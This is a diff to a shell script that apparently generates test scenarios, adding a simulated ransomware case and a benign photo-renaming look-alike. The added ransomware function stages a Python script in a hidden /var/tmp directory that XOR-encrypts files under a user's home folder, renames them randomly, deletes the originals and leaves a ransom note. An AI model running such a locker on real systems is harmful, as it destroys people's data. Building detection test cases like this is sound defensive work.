@@ -424,3 +424,35 @@ for root, dirs, files in os.walk(sys.argv[1]):
         os.replace(tmp, p)
 P'
 }
+
+# ---- eighth batch: a locker that gives every encrypted copy a random name, and photos renamed by date
+sc_h18_ssh_python_random_names() {
+  install -d -m 755 /var/tmp/.pyc
+  cat > /var/tmp/.pyc/w.py <<'P'
+import os, sys, uuid
+key = b'rand-names-key-1'
+for root, dirs, files in os.walk(sys.argv[1]):
+    for n in files:
+        if n == 'READ_ME_NOW.txt' or len(n) == 32:
+            continue
+        p = os.path.join(root, n)
+        with open(p, 'rb') as f:
+            data = f.read()
+        with open(os.path.join(root, uuid.uuid4().hex), 'wb') as out:
+            out.write(bytes(b ^ key[i % 16] for i, b in enumerate(data)))
+        os.remove(p)
+    with open(os.path.join(root, 'READ_ME_NOW.txt'), 'w') as f:
+        f.write('files encrypted and renamed; mail rn@onion.example\n')
+P
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'python3 /var/tmp/.pyc/w.py ~/work'
+  rm -rf /var/tmp/.pyc
+}
+pre_b24_ssh_photos_renamed_by_date() {
+  mkdir -p /home/tomas/photos/import; for i in $(seq 1 45); do head -c 3000 /dev/urandom > /home/tomas/photos/import/IMG_$((1000+i)).JPG; done
+  chown -R tomas: /home/tomas/photos
+}
+sc_b24_ssh_photos_renamed_by_date() {
+  sshx tomas 'cd ~/photos/import && i=0; for f in IMG_*.JPG; do i=$((i+1)); d=2026/12/0$((i % 7 + 1)); mkdir -p ../$d; mv "$f" "../$d/2026-12-0$((i % 7 + 1))_10$(printf %02d $i)00.jpg"; done; ls -R .. | wc -l'
+  rm -rf /home/tomas/photos
+}
